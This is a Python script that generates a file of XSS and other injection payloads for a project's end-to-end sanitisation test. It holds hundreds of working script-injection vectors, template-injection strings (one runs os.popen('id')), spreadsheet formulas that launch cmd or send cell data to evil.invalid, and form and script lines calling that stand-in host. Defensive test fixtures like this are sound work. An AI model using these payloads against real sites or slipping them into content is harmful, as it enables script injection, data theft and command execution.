"""Write tests/data/xss_payloads.txt: hostile text for the end-to-end XSS test.

Run `python tests/data/make_xss_payloads.py` after changing a list here; the test reads only the
text file. The payloads are written for this project, after the kinds of vector that the OWASP XSS
Filter Evasion Cheat Sheet and PortSwigger's XSS cheat sheet describe (no list copied). Each one
that could run script tries to call alert() and to set `window.__xss`, so that a page which runs
it is caught either way.

File format: UTF-8, one payload a line, taken as it stands (invisible and bidi control
characters are written raw); lines starting with "##" are comments, empty lines are skipped.
A payload never contains a line break: the test joins payloads with "\\n" for multi-line details.
"""

from __future__ import annotations

import base64
from pathlib import Path

OUT = Path(__file__).with_name("xss_payloads.txt")

#: What an injected script would run: the sentinel plus a dialog, in several spellings.
JS = [
    "window.__xss=1;alert(1)",
    "window.__xss=1,alert`1`",
    "top.__xss=1;confirm(1)",
    "self['__xss']=1;prompt(1)",
    "globalThis.__xss=1;alert(document.domain)",
    "window['__x'+'ss']=1;window['al'+'ert'](1)",
    "eval('window.__xss=1;alert(1)')",
    "setTimeout('window.__xss=1;alert(1)')",
    "Function('window.__xss=1;alert(1)')()",
    "[].constructor.constructor('window.__xss=1;alert(1)')()",
    "eval(atob('{b64}'))".format(b64=base64.b64encode(b"window.__xss=1;alert(1)").decode()),
]
A = JS[0]
B64_SCRIPT = base64.b64encode(f"<script>{A}</script>".encode()).decode()
B64_SVG = base64.b64encode(
    b"<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    b"<image href='1' onerror='top.__xss=1;alert(1)'/></svg>"
).decode()


def section(name: str, payloads: list[str]) -> list[str]:
    return [f"## {name}", *payloads, ""]


SCRIPT_TAGS = [
    f"<script>{A}</script>",
    f"<SCRIPT>{A}</SCRIPT>",
    f"<ScRiPt>{A}</sCrIpT>",
    f"<script >{A}</script >",
    f"<script/x>{A}</script>",
    f'<script type="text/javascript">{A}</script>',
    f"<script type=module>{A}</script>",
    f"<script src=data:text/javascript,{A}></script>",
    f'<script src="data:text/javascript;base64,{base64.b64encode(A.encode()).decode()}"></script>',
    "<script src=//evil.invalid/x.js></script>",
    "<script src=/static/js/board.js type=module></script>",
    f"<<script>script>{A}<</script>/script>",
    f"<scr<script>ipt>{A}</scr</script>ipt>",
    f"</script><script>{A}</script>",
    f"</title><script>{A}</script>",
    f"</textarea><script>{A}</script>",
    f"</option></select><script>{A}</script>",
    f"</style><script>{A}</script>",
    f"--><script>{A}</script>",
    f"]]><script>{A}</script>",
    f'"><script>{A}</script>',
    f"'><script>{A}</script>",
    f"`><script>{A}</script>",
    f"<script>{A}//",
    f"<script>{A}<!--",
    f"<script>/*</script>*/{A}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={A}>">',
    f"<template><script>{A}</script></template>",
    '<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{A}&lt;/script&gt;"></iframe>',
    f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    f'<embed src="data:text/html;base64,{B64_SCRIPT}">',
    '<base href="javascript:/a/-alert(1)///////">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{A}">',
    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">',
    f'<link rel=import href="data:text/html;base64,{B64_SCRIPT}">',
    f"<isindex action=javascript:{A} type=image>",
    f"<xss id=x tabindex=1 onfocus={A} autofocus></xss>",
    f'<!--<img src="--><img src=x onerror={A}//">',
    f"<![CDATA[<script>{A}</script>]]>",
    f'<?xml version="1.0"?><script>{A}</script>',
    f"<script\\x20type=text/javascript>{A}</script>",
    f"<script\\x0Dtype=text/javascript>{A}</script>",
    f"<scr\\0ipt>{A}</scr\\0ipt>",
    f"<ſcript>{A}</ſcript>",
    f"<script>{A}</script>" * 3,
    f"<plaintext><script>{A}</script>",
    f"<xmp><script>{A}</script></xmp>",
    f"<listing><script>{A}</script></listing>",
    f"<noembed><script>{A}</script></noembed>",
    f"<noframes><script>{A}</script></noframes>",
    f"<textarea><script>{A}</script></textarea>",
    f"<title><script>{A}</script></title>",
    f"<style><script>{A}</script></style>",
    f"</body></html><script>{A}</script>",
    f"<!DOCTYPE html><html><body><script>{A}</script>",
]

SVG = [
    f"<svg onload={A}>",
    f"<svg/onload={A}>",
    f"<SVG ONLOAD={A}>",
    f'<svg onload="{JS[1]}"></svg>',
    f"<svg><script>{A}</script></svg>",
    f"<svg><script>{A}</script>",
    f"<svg><script href=data:,{A} />",
    f"<svg><script xlink:href=data:,{A}></script></svg>",
    f"<svg><animate onbegin={A} attributeName=x dur=1s>",
    f"<svg><animate onend={A} attributeName=x dur=1s>",
    f"<svg><animate onrepeat={A} attributeName=x dur=1s repeatCount=2>",
    f"<svg><set onbegin={A} attributeName=x to=1>",
    f"<svg><set attributeName=onmouseover to={A}>",
    f"<svg><animatetransform onbegin={A}>",
    f"<svg><animatemotion onbegin={A}>",
    f"<svg><discard onbegin={A}>",
    f"<svg><a><animate attributeName=href values=javascript:{A} /><text x=20 y=20>x</text></a>",
    f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x"></use></svg>',
    f'<svg><use xlink:href="data:image/svg+xml;base64,{B64_SVG}#x"/></svg>',
    "<svg><use href=//evil.invalid/x.svg#x /></svg>",
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;">'
    "</iframe></foreignObject></svg>",
    f"<svg><foreignObject><img src=x onerror={A}></foreignObject></svg>",
    f"<svg><foreignObject><body onload={A}></body></foreignObject></svg>",
    f'<svg><a xlink:href="javascript:{A}"><rect width=100 height=100 /></a></svg>',
    f'<svg><a href="javascript:{A}"><text x=0 y=20>x</text></a></svg>',
    f"<svg><image href=x onerror={A}>",
    f"<svg><image xlink:href=x onerror={A} />",
    f"<svg><feImage href=x onerror={A} />",
    "<svg><style>@import'//evil.invalid/x.css';</style></svg>",
    f"<svg><title><img src=x onerror={A}></title></svg>",
    f"<svg><desc><![CDATA[</desc><script>{A}</script>]]></svg>",
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{A}"/>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">'
    f"{A}</handler></svg>",
    f"<svg><p><style><img src=x onerror={A}></p></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={A}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={A}>",
    f'<math href="javascript:{A}">x</math>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{A}>x</maction></math>",
    f"<math><mi xlink:href=javascript:{A}>x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={A}>",
    f"<svg><svg onload={A}>",
    f"<svg><g onload={A}></g></svg>",
    f"<svg><circle r=100 onmouseover={A} />",
    f"<svg><text onclick={A}>x</text></svg>",
    f'<svg width=1 height=1 style="position:fixed;inset:0" onmousemove={A}>',
]

#: (tag and trigger attributes, handler attribute) for the event-handler section.
TRIGGERS = [
    ("img src=x", "onerror"),
    ("img src=x:y", "onerror"),
    ("img srcset=x", "onerror"),
    ("image src=x", "onerror"),
    ("input type=image src=x", "onerror"),
    ("video src=x", "onerror"),
    ("video poster=x", "onerror"),
    ("audio src=x", "onerror"),
    ("source src=x", "onerror"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("iframe", "onload"),
    ("iframe src=about:blank", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onfocus"),
    ("body", "onresize"),
    ("body", "onhashchange"),
    ("frameset", "onload"),
    ("style", "onload"),
    ("svg", "onload"),
    ("input autofocus", "onfocus"),
    ("input autofocus", "onfocusin"),
    ("input autofocus", "onblur"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a id=x tabindex=1 autofocus href=#", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("div tabindex=0 autofocus", "onfocusin"),
    ("details open", "ontoggle"),
    ("details", "ontoggle"),
    ("dialog open", "onclose"),
    ("marquee", "onstart"),
    ("marquee loop=1 width=0", "onfinish"),
    ("div style=animation-name:spin;animation-duration:1s", "onanimationstart"),
    ("div style=transition:color 1s", "ontransitionend"),
    ('div style="position:fixed;inset:0"', "onmouseover"),
    ('div style="position:fixed;inset:0"', "onpointerover"),
    ('div style="position:fixed;inset:0"', "onpointerenter"),
    ('div style="position:fixed;inset:0"', "onmousemove"),
    ('div style="position:fixed;inset:0"', "onwheel"),
    ("p", "onclick"),
    ("span", "ondblclick"),
    ("a href=#", "onclick"),
    ("button", "onclick"),
    ("form", "onsubmit"),
    ("form", "oninput"),
    ("input", "oninput"),
    ("input", "onchange"),
    ("input type=search", "onsearch"),
    ("div draggable=true", "ondragstart"),
    ("div", "oncopy"),
    ("div", "onpaste"),
    ("body", "onbeforeprint"),
    ("body", "onscroll"),
    ("html", "onmouseover"),
    ("table background=x", "onerror"),
    ("td", "onmouseover"),
    ("custom-element", "onclick"),
    ("xss", "onpointerdown"),
    ("bdo dir=rtl", "onmouseover"),
    ("output", "onclick"),
    ("slot", "onclick"),
    ("template", "onclick"),
    ("track", "onerror"),
    ("picture><source srcset=x><img src=x", "onerror"),
]

#: How the handler attribute is written: quoting, separators and case.
STYLES = [
    "<{tag} {handler}={js}>",
    '<{tag} {handler}="{js}">',
    "<{tag} {handler}='{js}'>",
    "<{tag}/{handler}={js}>",
    "<{TAG} {HANDLER}={js}>",
    '"><{tag} {handler}="{js}">',
]


def handlers() -> list[str]:
    payloads = []
    for n, (tag, handler) in enumerate(TRIGGERS):
        style = STYLES[n % len(STYLES)]
        js = JS[n % len(JS)]
        if style in (STYLES[0], STYLES[3], STYLES[4]):
            js = js.replace(" ", "")  # unquoted attributes end at a space
        tag_slash = tag.replace(" ", "/") if style == STYLES[3] else tag
        payloads.append(
            style.format(
                tag=tag_slash, handler=handler, js=js, TAG=tag.upper(), HANDLER=handler.upper()
            )
        )
        # Every trigger also in the plainest spelling, closed, with the first sentinel.
        payloads.append(f"<{tag} {handler}={A}></{tag.split()[0]}>")
    return payloads


JAVASCRIPT_URLS = [
    f'<a href="javascript:{A}">click</a>',
    f'<a href="JaVaScRiPt:{A}">click</a>',
    f'<a href=" javascript:{A}">click</a>',
    f'<a href="java&#x09;script:{A}">click</a>',
    f'<a href="java&#10;script:{A}">click</a>',
    f'<a href="jav&#x0D;ascript:{A}">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    '&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">click</a>',
    f'<a href="&#x6A;avascript:{A}">click</a>',
    f'<a href="javascript&colon;{A}">click</a>',
    f'<a href="\\x6Aavascript:{A}">click</a>',
    f'<a href="\\u006Aavascript:{A}">click</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    f"<a href=javascript:{A} id=x autofocus>click</a>",
    f'<iframe src="javascript:{A}"></iframe>',
    f'<iframe src="data:text/html;base64,{B64_SCRIPT}"></iframe>',
    f'<form action="javascript:{A}"><input type=submit></form>',
    f"<form><button formaction=javascript:{A}>x</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{A}>x</button>",
    f'<object data="javascript:{A}"></object>',
    f'<embed src="javascript:{A}">',
    f'<img src="javascript:{A}">',
    f'<img dynsrc="javascript:{A}">',
    f'<img lowsrc="javascript:{A}">',
    f'<table background="javascript:{A}"></table>',
    f'<input type="image" src="javascript:{A}">',
    f'<isindex formaction="javascript:{A}">',
    f'<area href="javascript:{A}">',
    f'<frameset><frame src="javascript:{A}"></frameset>',
    f'<video><source src="javascript:{A}"></video>',
    f'<div style="background-image:url(javascript:{A})">x</div>',
    f"javascript:{A}",
    "javascript://%0aalert(1)",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/"
    f"+/[*/[]/+{A}//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>\\x3e",
    f"data:text/html;base64,{B64_SCRIPT}",
    "vbscript:msgbox(1)",
    f"livescript:{A}",
    f"mocha:{A}",
]

ENCODINGS = [
    f"&lt;script&gt;{A}&lt;/script&gt;",
    f"&#60;script&#62;{A}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={A}&#x3E;",
    f"&#0000060script&#0000062{A}&#0000060/script&#0000062",
    f"&LT;script&GT;{A}&LT;/script&GT;",
    f"&lt;svg onload={A}&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&amp; &lt; &gt; &quot; &#39; &nbsp; &copy;",
    f"%3Cscript%3E{A}%3C%2Fscript%3E",
    f"%253Cscript%253E{A}%253C%252Fscript%253E",
    f"%u003Cscript%u003E{A}%u003C/script%u003E",
    f"\\u003cscript\\u003e{A}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{A}\\x3c/script\\x3e",
    f"\\74script\\76{A}\\74/script\\76",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"＜script＞{A}＜/script＞",
    f"﹤script﹥{A}﹤/script﹥",
    f"‹script›{A}‹/script›",
    f"«script»{A}«/script»",
    f"<scr&#x69;pt>{A}</scr&#x69;pt>",
    f"<scr\u0307ipt>{A}</script>",
    f"<\u0338img src=x onerror={A}>",
    f"<ımg src=x onerror={A}>",
    f"<ſvg onload={A}>",
    f"<İMG SRC=x ONERROR={A}>",
    B64_SCRIPT,
    f'"}}]}}</script><script>{A}</script>',
    '\\";alert(1);//',
    "';window.__xss=1;alert(1);//",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    "</script\t><script>alert(1)</script>",
    "<img src=x onerror=&#x77;&#x69;&#x6e;&#x64;&#x6f;&#x77;.__xss=1;alert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval('\\x77indow.__xss=1;alert(1)')>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    f"<img src=x onerror=location='javascript:{A}'>",
    f"<img src=x onerror=import('data:text/javascript,{A}')>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img """><script>window.__xss=1;alert(1)</script>">',
    '<img src=x onerror\x3d"window.__xss=1;alert(1)">'.replace("\x3d", "\\x3d"),
    "<img\u00a0src=x\u00a0onerror=window.__xss=1;alert(1)>",
    "<img\u3000src=x onerror=window.__xss=1;alert(1)>",
    "<img\u200bsrc=x onerror=window.__xss=1;alert(1)>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "\u2028</script><script>alert(1)</script>\u2029",
]

TEMPLATES = [
    "${alert(1)}",
    "${window.__xss=1}",
    "`${window.__xss=1;alert(1)}`",
    "${{7*7}}",
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{config}}",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{%- print(7*7) -%}",
    "{# comment #}",
    "#{7*7}",
    "<%= 7*7 %>",
    "@{7*7}",
    "[[${7*7}]]",
    "*{7*7}",
    "${{<%[%'\"}}%\\.",
    "{{constructor.constructor('window.__xss=1;alert(1)')()}}",
    "{{$on.constructor('window.__xss=1;alert(1)')()}}",
    "{{_c.constructor('window.__xss=1;alert(1)')()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    '["a","alert(1)"].sort(toString.constructor)}}',
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<x v-if=_c.constructor('alert(1)')()>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
    '<div x-data x-init="window.__xss=1;alert(1)"></div>',
    '<div hx-get=/ hx-trigger=load hx-on::load="alert(1)"></div>',
    "{n}",
    "{title}",
    "{left} / {budget}",
    "{area} {status} {phase} {target}",
    "%(num)s %(name)s %(field)s",
    "%s%s%s%s%n",
    "%d %x %p %c",
    "{0} {1} {}",
    "$1 $& $` $' $$",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__":{"__xss":1}}',
    "[object Object]",
    "undefined",
    "null",
    "NaN",
]

CSS = [
    '<div style="width:expression(window.__xss=1)">x</div>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<style>@import "javascript:alert(1)";</style>',
    "<style>@import '//evil.invalid/x.css';</style>",
    "<style>*{x:expression(window.__xss=1)}</style>",
    "<style>body{display:none}</style>",
    "<style>@keyframes x{}</style><div style=animation-name:x onanimationstart=alert(1)>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<link rel=stylesheet href="//evil.invalid/x.css">',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(//evil.invalid/x.xml#xss)">x</div>',
    "expression(alert(1))",
    "width: expression(alert(1));",
    "background:url(javascript:alert(1))",
    "</style><img src=x onerror=window.__xss=1;alert(1)>",
    "}body{display:none}",
    "red;background:url(//evil.invalid/x.png)",
    "#1f5fa8;}*{display:none",
    "</style><style>*{color:red}</style>",
    '<div style="position:fixed;inset:0;background:red;z-index:99999">cover</div>',
    '<p style="font-size:999px">BIG</p>',
    '<span style="display:block;width:5000px">wide</span>',
    "<font size=7 color=red>big</font>",
    "<b>bold</b> <i>italic</i> <u>under</u> <s>strike</s>",
    "<h1>heading</h1>",
    "<marquee>moving</marquee>",
    "<blink>blink</blink>",
    "<br><br><br><hr>",
    "<img src=//evil.invalid/track.png>",
    "<img src=/board/QQQQQQ/qr.svg>",
    "<input type=hidden name=csrf_token value=x>",
    "<meta name=csrf-token content=stolen>",
    "<form action=//evil.invalid><input name=password type=password></form>",
    "<button form=x formaction=//evil.invalid>Send</button>",
    "<dialog open>modal</dialog>",
    "<div popover id=x>pop</div><button popovertarget=x>open</button>",
    "<div id=page-data>{}</div>",
    "<p id=event-title>fake</p>",
]

BIDI = [
    "\u202egnp.exe",
    "Sprachcafé\u202e rechts nach links",
    "abc\u202edef",
    f"\u202e<script>{A}</script>",
    "\u2066LRI ohne Ende",
    "\u2067RLI ohne Ende",
    "\u2068FSI ohne Ende",
    "PDI allein\u2069",
    "\u2069\u2069\u2069",
    "\u202aLRE \u202bRLE \u202dLRO",
    "\u202cPDF allein",
    "\u200e\u200fMarken",
    "\u061cArabische Marke",
    "<scr\u200bipt>window.__xss=1;alert(1)</scr\u200bipt>",
    "java\u200bscript:alert(1)",
    "Null\u200bbreite\u200cZeichen\u200d",
    "\u2060Wortverbinder\u2060",
    "\ufeffBOM am Anfang",
    "weiches\u00adTrennzeichen",
    "\u180eMongolisch",
    "Zeilen\u2028trenner",
    "Absatz\u2029trenner",
    "\u3164",
    "\u115f\u1160",
    "\u200b",
    "\u2800",
    "\ufffc Objekt",
    "\ufffd Ersatz",
    "Nicht\ufffeZeichen\uffff",
    "\U000e0041\U000e0042 Tag-Zeichen",
    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467 Emoji",
    "Z\u0351\u0356\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b"
    "a\u0351\u0356\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b"
    "l\u0351\u0356\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b"
    "g\u0351\u0356\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030bo",
    f"مرحبا <script>{A}</script> بالعالم",
    "שלום \u202eעולם <b>x</b>",
    "سلام\u202d LTR override \u202c پایان",
    "Привет <img src=x onerror=alert(1)>",
    "\u0410\u0430\u0415\u0435 homoglyph script: <ѕcript>alert(1)</ѕcript>",
    "e\u0301 und \u00e9",
    "\u212b \u2126 \u1e9b\u0323",
    "ﬁ ﬂ ﷺ ﷽",
    "\U0001d54f\U0001d556\U0001d564\U0001d564",
]

MARKDOWN = [
    f"[click me](javascript:{A})",
    "[click me](https://evil.invalid)",
    '![img](x" onerror="window.__xss=1;alert(1))',
    "![a](javascript:alert(1))",
    f'[a](javascript:{A} "title")',
    "[a][ref]\u00a0[ref]: javascript:alert(1)",
    "<https://evil.invalid>",
    "<javascript:alert(1)>",
    "**bold** _italic_ `code` ~~strike~~",
    "# Heading",
    "> quote",
    "| table | x |",
    "```js alert(1) ```",
    "https://evil.invalid/?q=<script>alert(1)</script>",
    "www.evil.invalid",
    "mailto:x@evil.invalid",
    "tel:+49123456",
    "[[wiki]] {{template}}",
    "[url=javascript:alert(1)]bb[/url]",
    "[img]javascript:alert(1)[/img]",
    "<a href=https://evil.invalid>plain link</a>",
    "<a href=/moderate/ target=_blank>staff</a>",
    "\\<script\\>alert(1)\\</script\\>",
]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.invalid/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+thisIsNotAFormula",
    "@alias",
    "=",
    "==",
    "'=1+1",
    "\u200b=1+1",
    "＝1+1",
]


def long_payloads() -> list[str]:
    """Strings at the length limits: titles 140, area names 100, event titles 200, details and
    questions 1000, and a few just over."""
    tag = f"<script>{A}</script>"
    img = f"<img src=x onerror={A}>"
    out = []
    for length in (64, 100, 140, 200, 1000):
        out.append((tag * (length // len(tag) + 1))[:length])
        out.append((img * (length // len(img) + 1))[:length])
        out.append("W" * length)  # one unbreakable word
    out.append("ش" * 140)
    out.append("\u202e" + "x" * 139)
    out.append("&lt;" * 35)  # 140 characters that a double decode would make into 35 '<'
    out.append(("<b>" * 47)[:140])
    out.append("\U0001f600" * 140)  # 140 code points, 280 UTF-16 units
    out.append("e\u0301" * 70)  # 140 code points, 70 after NFC
    out.append("W" * 141)
    out.append("W" * 1001)
    return out


def main() -> None:
    lines = [
        "## Hostile text for tests/e2e/test_xss.py, made by tests/data/make_xss_payloads.py.",
        "## UTF-8, one payload a line as it stands; '##' starts a comment. Invisible and bidi",
        "## control characters are written raw. Written for this project (no list copied).",
        "",
        *section("script tags and breakouts", SCRIPT_TAGS),
        *section("SVG and MathML", SVG),
        *section("event handler attributes", handlers()),
        *section("javascript: and data: URLs", JAVASCRIPT_URLS),
        *section("case and encodings", ENCODINGS),
        *section("template syntax and format strings", TEMPLATES),
        *section("CSS and harmless markup", CSS),
        *section("bidi, invisible and unusual characters", BIDI),
        *section("markdown and links", MARKDOWN),
        *section("spreadsheet formulas", FORMULAS),
        *section("at and over the length limits", long_payloads()),
    ]
    payloads = [line for line in lines if line and not line.startswith("##")]
    assert all("\n" not in p and "\r" not in p for p in payloads)
    assert len(set(payloads)) == len(payloads), "duplicate payloads"
    OUT.write_text("\n".join(lines), encoding="utf-8")
    print(f"{len(payloads)} payloads written to {OUT}")


if __name__ == "__main__":
    main()
